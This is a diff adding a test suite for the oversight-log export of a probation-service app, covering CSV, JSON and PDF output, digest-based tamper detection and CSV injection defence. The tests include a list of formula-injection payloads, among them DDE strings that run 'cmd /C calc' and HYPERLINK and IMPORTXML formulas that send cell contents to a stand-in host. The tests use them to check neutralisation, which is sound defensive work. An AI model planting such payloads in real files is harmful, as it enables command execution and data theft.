@@ -1,0 +1,311 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import fc from 'fast-check';
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import type { ExportFormat } from '../contract.js';
+import { fixture, ok, review, type Fixture } from '../reviews/fixture.js';
+import { csvCell, neutralise, readCell } from './csv-cell.js';
+import { pdfPageTexts } from './pdf-inspect.js';
+import { verifyExportBytes, verifyExportFile } from './verify.js';
+
+/** Two cases; one review amended twice, one withdrawn, one plain. */
+async function history(): Promise<Fixture & { ids: number[] }> {
+  const f = await fixture();
+  const a = await ok(f.service.call('reviews:record', review()));
+  await ok(f.service.call('reviews:amend', { id: a.id, reason: 'date corrected', date: '2026-11-21' }));
+  await ok(f.service.call('reviews:amend', { id: a.id, reason: 'entered in nDelius', ndeliusContactId: '2500012345' }));
+  const b = await ok(f.service.call('reviews:record', review({ date: '2026-10-02', nextReviewDate: '2026-12-28', actions: [], decision: 'Refer to MAPPA level 2.' })));
+  await ok(f.service.call('reviews:withdraw', { id: b.id, reason: 'entered on the wrong case' }));
+  const c = await ok(f.service.call('reviews:record', review({ crn: 'X000002', type: 'mappa-l1-review', triggers: ['MAPPA-L1-REVIEW'] })));
+  return { ...f, ids: [a.id, b.id, c.id] };
+}
+
+async function exported(f: Fixture, format: ExportFormat, extra: Record<string, string> = {}) {
+  const out = join(f.dir, `log-${Math.random().toString(36).slice(2)}.${format}`);
+  const r = await ok(f.service.call('log:export', { format, out, purpose: 'HMIP inspection', recipient: 'HM Inspectorate of Probation', ...extra }));
+  return { ...r, bytes: readFileSync(out) };
+}
+
+describe('the oversight log export', () => {
+  it('CSV: a header block, then one row per version, withdrawals and amendment reasons visible', async () => {
+    const f = await history();
+    const r = await exported(f, 'csv');
+    expect(r.rowCount).toBe(6);
+    expect(r.reviewCount).toBe(3);
+    const rows = Papa.parse<string[]>(r.bytes.toString('utf8'), { delimiter: ',', newline: '\r\n', skipEmptyLines: false }).data;
+    const header = new Map(rows.slice(0, rows.findIndex((x) => x.length === 1 && x[0] === '')).map((x) => [x[0], x[1]]));
+    expect(header.get('OFFICIAL-SENSITIVE')).toBe('SPO Oversight: oversight log');
+    expect(header.get('exported by (OS user)')).toBe('spo-test');
+    expect(header.get('exported at (UTC)')).toBe('2026-11-23T10:00:00.000Z');
+    expect(header.get('purpose')).toBe('HMIP inspection');
+    expect(header.get('rows (review versions)')).toBe('6');
+    expect(header.get('app version')).toMatch(/^\d+\.\d+\.\d+/);
+    expect(header.get('SHA-256 digest')).toBe(r.digest);
+    expect(header.get('audit chain head entry')).toBe(String(r.chainHead?.id));
+    const start = rows.findIndex((x) => x[0] === 'crn');
+    const columns = rows[start] ?? [];
+    const table = rows.slice(start + 1, start + 1 + r.rowCount).map((x) => Object.fromEntries(columns.map((c, i) => [c, x[i]])));
+    expect(table.map((t) => [t.crn, t['review id'], t.version, t.action, t['reason for amendment or withdrawal'], t['counts as evidence']])).toEqual([
+      ['X000001', String(f.ids[1]), '1', 'recorded', '', 'no'],
+      ['X000001', String(f.ids[1]), '2', 'withdrawn', 'entered on the wrong case', 'no'],
+      ['X000001', String(f.ids[0]), '1', 'recorded', '', 'no'],
+      ['X000001', String(f.ids[0]), '2', 'amended', 'date corrected', 'no'],
+      ['X000001', String(f.ids[0]), '3', 'amended', 'entered in nDelius', 'yes'],
+      ['X000002', String(f.ids[2]), '1', 'recorded', '', 'yes'],
+    ]);
+    const last = table[4];
+    expect(last).toMatchObject({
+      'review type': 'Management oversight',
+      'review date': '2026-11-21',
+      SPO: 'Sam Senior (N99S001)',
+      'prompted by': 'OVERSIGHT-NEW',
+      practitioner: 'Pat Example',
+      'team code': 'N99T01',
+      'effective RoSH': 'HIGH (RHRH registered 2026-09-10)',
+      'RoSH (OASys)': 'HIGH, assessed 2026-09-10',
+      tier: 'B2',
+      'check: Police domestic-abuse information': 'sought, not available: Requested from police on 2026-11-18',
+      'check: Referrals': 'not recorded',
+      decision: 'Continue with weekly reporting.',
+      actions: 'Chase police DA response (owner Pat Example, due 2026-12-04)',
+      'next review date': '2027-02-12',
+      'nDelius contact code': 'MO1',
+      'nDelius contact ID': '2500012345',
+    });
+    expect(table[5]).toMatchObject({ 'MAPPA category': 'M2', 'MAPPA level': 'M1', 'nDelius contact code': 'C281' });
+    expect(rows.at(-2)).toEqual(['digest', `sha256:${r.digest}`]);
+  });
+
+  it('JSON: valid JSON with the header and every review with all its versions', async () => {
+    const f = await history();
+    const r = await exported(f, 'json');
+    const doc = JSON.parse(r.bytes.toString('utf8')) as {
+      marking: string;
+      header: Record<string, unknown>;
+      reviews: { id: number; withdrawn: boolean; versions: { version: number; action: string; reason: string | null }[] }[];
+      digest: string;
+    };
+    expect(doc.marking).toBe('OFFICIAL-SENSITIVE');
+    expect(doc.digest).toBe(`sha256:${r.digest}`);
+    expect(doc.header).toMatchObject({ format: 'json', rowCount: 6, reviewCount: 3, caseCount: 2, digest: r.digest, purpose: 'HMIP inspection', chainHead: r.chainHead });
+    expect(doc.reviews.map((x) => [x.id, x.withdrawn, x.versions.map((v) => `${v.version} ${v.action} ${v.reason ?? ''}`.trim())])).toEqual([
+      [f.ids[1], true, ['1 recorded', '2 withdrawn entered on the wrong case']],
+      [f.ids[0], false, ['1 recorded', '2 amended date corrected', '3 amended entered in nDelius']],
+      [f.ids[2], false, ['1 recorded']],
+    ]);
+  });
+
+  it('PDF: title page, a section per case, every version and withdrawal, page numbers and the marking on every page', async () => {
+    const f = await history();
+    const r = await exported(f, 'pdf');
+    expect(r.bytes.subarray(0, 5).toString()).toBe('%PDF-');
+    const pages = pdfPageTexts(r.bytes);
+    expect(pages.length).toBeGreaterThanOrEqual(2);
+    pages.forEach((text, i) => {
+      expect(text.split('OFFICIAL-SENSITIVE').length - 1).toBeGreaterThanOrEqual(2);
+      expect(text).toContain(`Page ${i + 1} of ${pages.length}`);
+    });
+    const title = pages[0] ?? '';
+    expect(title).toContain('Oversight log');
+    expect(title).toContain(r.digest);
+    expect(title).toContain(`entry ${r.chainHead?.id ?? ''}`);
+    expect(title).toContain('Example PDU');
+    expect(title).toContain('Team One (N99T01)');
+    expect(title).toContain('HM Inspectorate of Probation');
+    expect(title).toContain('6 review versions in 3 reviews of 2 cases');
+    const body = pages.slice(1).join('\n');
+    expect(body).toContain('Case X000001');
+    expect(body).toContain('Case X000002');
+    expect(body).toContain('WITHDRAWN: does not count as oversight evidence.');
+    expect(body).toContain('entered on the wrong case');
+    expect(body).toMatch(/Version 2: amended/);
+    expect(body).toContain('date corrected');
+    expect(body).toContain('Version 3: amended');
+  });
+
+  it('PDF: the digest and the lines after %%EOF leave the PDF structure sound (every xref offset lands on its object)', async () => {
+    const f = await history();
+    const { bytes } = await exported(f, 'pdf');
+    const text = bytes.toString('latin1');
+    const eof = text.lastIndexOf('%%EOF');
+    expect(bytes.length - eof).toBeLessThan(1024);
+    // Even with the longest purpose and recipient, in scripts that need escaping, %%EOF stays in the last kilobyte.
+    const long = await exported(f, 'pdf', { purpose: 'Ω'.repeat(200), recipient: 'Ł'.repeat(120) });
+    expect(long.bytes.length - long.bytes.toString('latin1').lastIndexOf('%%EOF')).toBeLessThan(1024);
+    expect((await verifyExportFile(long.path)).meta?.purpose).toMatch(/^Ω+…$/);
+    const startxref = Number(/startxref\n(\d+)\n%%EOF/.exec(text)?.[1]);
+    expect(text.slice(startxref, startxref + 4)).toBe('xref');
+    const table = /xref\n0 (\d+)\n([^]*?)trailer/.exec(text.slice(startxref));
+    const entries = (table?.[2] ?? '').trim().split('\n');
+    expect(entries).toHaveLength(Number(table?.[1]));
+    entries.slice(1).forEach((line, i) => {
+      const offset = Number(line.slice(0, 10));
+      expect(text.slice(offset, offset + `${i + 1} 0 obj`.length)).toBe(`${i + 1} 0 obj`);
+    });
+  });
+
+  it('PDF: long text wraps onto further lines and pages instead of being cut off', async () => {
+    const f = await fixture();
+    const long = Array.from({ length: 900 }, (_, i) => `word${i}`).join(' ');
+    const unbroken = 'x'.repeat(400);
+    await ok(f.service.call('reviews:record', review({ analysis: long, decision: unbroken })));
+    const r = await exported(f, 'pdf');
+    const pages = pdfPageTexts(r.bytes);
+    const text = pages.join('\n').replace(/\n/g, ' ');
+    for (const w of ['word0', 'word450', 'word899']) expect(text).toContain(w);
+    expect(pages.join('').replace(/[^x]/g, '').length).toBeGreaterThanOrEqual(400);
+    expect(pages.length).toBeGreaterThanOrEqual(3);
+    pages.forEach((p, i) => {
+      expect(p).toContain(`Page ${i + 1} of ${pages.length}`);
+    });
+  });
+
+  it('filters by date range, team, practitioner and rule', async () => {
+    const f = await history();
+    const count = async (filters: Record<string, string>) => (await exported(f, 'json', filters)).reviewCount;
+    expect(await count({ from: '2026-11-01' })).toBe(3 - 1);
+    expect(await count({ to: '2026-10-31' })).toBe(1);
+    expect(await count({ team: 'n99t01' })).toBe(3);
+    expect(await count({ team: 'N99T99' })).toBe(0);
+    expect(await count({ practitioner: 'N99P002' })).toBe(1);
+    expect(await count({ rule: 'mappa-l1-review' })).toBe(1);
+    const refused = await f.service.call('log:export', { format: 'csv', out: join(f.dir, 'x.csv'), from: '2026-12-01', to: '2026-11-01' });
+    expect(refused.ok).toBe(false);
+  });
+
+  it('reports its disclosure: the service finds the audit entry that recorded it', async () => {
+    const f = await history();
+    const r = await exported(f, 'csv');
+    const v = await ok(f.service.call('log:verify', { path: r.path }));
+    expect(v.intact).toBe(true);
+    expect(v.disclosureEntryId).toBeGreaterThan(r.chainHead?.id ?? 0);
+    expect(v.meta).toMatchObject({ format: 'csv', rowCount: 6, chainHead: r.chainHead, purpose: 'HMIP inspection' });
+  });
+});
+
+describe('verify', () => {
+  const formats: ExportFormat[] = ['csv', 'json', 'pdf'];
+
+  it.each(formats)('passes on a fresh %s export and reads its header back', async (format) => {
+    const f = await history();
+    const r = await exported(f, format);
+    const v = await verifyExportFile(r.path);
+    expect(v).toMatchObject({ intact: true, format, digest: r.digest });
+    expect(v.meta).toMatchObject({
+      format,
+      rowCount: 6,
+      reviewCount: 3,
+      caseCount: 2,
+      chainHead: r.chainHead,
+      exportedBy: { osUser: 'spo-test', appUser: null },
+      purpose: 'HMIP inspection',
+      recipient: 'HM Inspectorate of Probation',
+    });
+  });
+
+  it.each(formats)('fails on a %s export after any single byte is changed (property)', async (format) => {
+    const f = await history();
+    const { bytes } = await exported(f, format);
+    const edges = [0, 1, bytes.length - 1, bytes.length - 2, bytes.indexOf('0123456789abcdef'.charAt(0))];
+    const check = (at: number, value: number) => {
+      const changed = Buffer.from(bytes);
+      changed[at] = value;
+      return verifyExportBytes(changed).intact;
+    };
+    for (const at of edges) expect(check(at, (bytes[at] ?? 0) ^ 0x01)).toBe(false);
+    fc.assert(
+      fc.property(
+        fc.integer({ min: 0, max: bytes.length - 1 }),
+        fc.integer({ min: 1, max: 255 }),
+        (at, delta) => !check(at, ((bytes[at] ?? 0) + delta) % 256),
+      ),
+      { numRuns: 400 },
+    );
+  });
+
+  it.each(formats)('fails on a %s export with a byte removed, added, or the shown digest changed', async (format) => {
+    const f = await history();
+    const { bytes, digest } = await exported(f, format);
+    expect(verifyExportBytes(bytes).intact).toBe(true);
+    expect(verifyExportBytes(bytes.subarray(0, -1)).intact).toBe(false);
+    expect(verifyExportBytes(Buffer.concat([bytes, Buffer.from('\n')])).intact).toBe(false);
+    expect(verifyExportBytes(Buffer.concat([Buffer.from(' '), bytes])).intact).toBe(false);
+    // Swap the digest for another valid-looking one everywhere it appears.
+    const other = digest.replace(/^./, (c) => (c === 'a' ? 'b' : 'a'));
+    const shown = (d: string) => (format === 'pdf' ? Buffer.from(d, 'latin1').toString('hex') : d);
+    const swapped = Buffer.from(bytes.toString('latin1').replaceAll(shown(digest), shown(other)).replaceAll(digest, other), 'latin1');
+    expect(verifyExportBytes(swapped).intact).toBe(false);
+  });
+
+  it('explains what is wrong', async () => {
+    const f = await history();
+    const { bytes } = await exported(f, 'csv');
+    const changed = Buffer.from(bytes.toString('utf8').replace('Continue with weekly reporting.', 'Continue with weekly reportinG.'));
+    expect(verifyExportBytes(changed)).toMatchObject({ intact: false, reason: expect.stringMatching(/changed after it was exported/) as unknown });
+    expect(verifyExportBytes(Buffer.from('crn,decision\r\nX000001,ok\r\n'))).toMatchObject({ intact: false, reason: expect.stringMatching(/does not end with a digest line/) as unknown });
+  });
+});
+
+describe('CSV injection (OWASP)', () => {
+  const payloads = [
+    '=1+1',
+    '+cmd',
+    '-2+3',
+    '@SUM(A1)',
+    '\t=1+1',
+    '\r=1+1',
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    "=IMPORTXML(CONCAT(\"http://example.invalid/?\", A1), \"//a\")",
+    '+1-1',
+    '-1+1',
+    '=-5',
+    '- 5',
+    "'=already quoted",
+  ];
+  const numbers = ['-5', '-3.2', '0', '42', '+7', '-0.5'];
+
+  it('neutralises every formula payload and leaves genuine numbers plain', () => {
+    for (const p of payloads) {
+      const cell = Papa.parse<string[]>(csvCell(p), { delimiter: ',', newline: '\r\n' }).data[0]?.[0] ?? '';
+      expect(cell.startsWith("'"), p).toBe(true);
+      expect(readCell(cell)).toBe(p);
+    }
+    for (const n of numbers) {
+      expect(csvCell(n)).toBe(n);
+      expect(Number(csvCell(n))).toBe(Number(n));
+    }
+    expect(neutralise('ordinary text')).toBe('ordinary text');
+  });
+
+  it('quotes cells per RFC 4180 and reads them back exactly', () => {
+    const nasty = ['a,b', 'say "hi"', 'two\r\nlines', 'one\nline', '', ' leading space'];
+    const row = nasty.map(csvCell).join(',');
+    expect(Papa.parse<string[]>(row, { delimiter: ',', newline: '\r\n' }).data[0]).toEqual(nasty);
+  });
+
+  it('every cell of an export that begins like a formula is neutralised, while -5 and -3.2 stay numbers', async () => {
+    const f = await fixture();
+    for (const p of payloads.filter((x) => x.trim() === x)) {
+      await ok(
+        f.service.call('reviews:record', review({ spo: { name: p }, decision: p, analysis: p, triggers: [p], ndeliusContactId: p.slice(0, 40), actions: [{ text: p, owner: p, due: '2026-12-01' }] })),
+      );
+    }
+    await ok(f.service.call('reviews:record', review({ decision: '-5', analysis: '-3.2', ndeliusContactId: '-5' })));
+    const r = await exported(f, 'csv', { purpose: '=1+1', recipient: "@SUM(1+1)*cmd|' /C calc'!A0" });
+    expect(verifyExportBytes(r.bytes).intact).toBe(true);
+    const cells = Papa.parse<string[]>(r.bytes.toString('utf8'), { delimiter: ',', newline: '\r\n' }).data.flat();
+    const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
+    expect(risky.length).toBeGreaterThan(0);
+    for (const c of risky) expect(Number.isFinite(Number(c)), `unneutralised cell: ${JSON.stringify(c)}`).toBe(true);
+    expect(cells).toContain('-5');
+    expect(cells).toContain('-3.2');
+    expect(cells).toContain("'=1+1");
+    expect(cells).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
+  });
+});
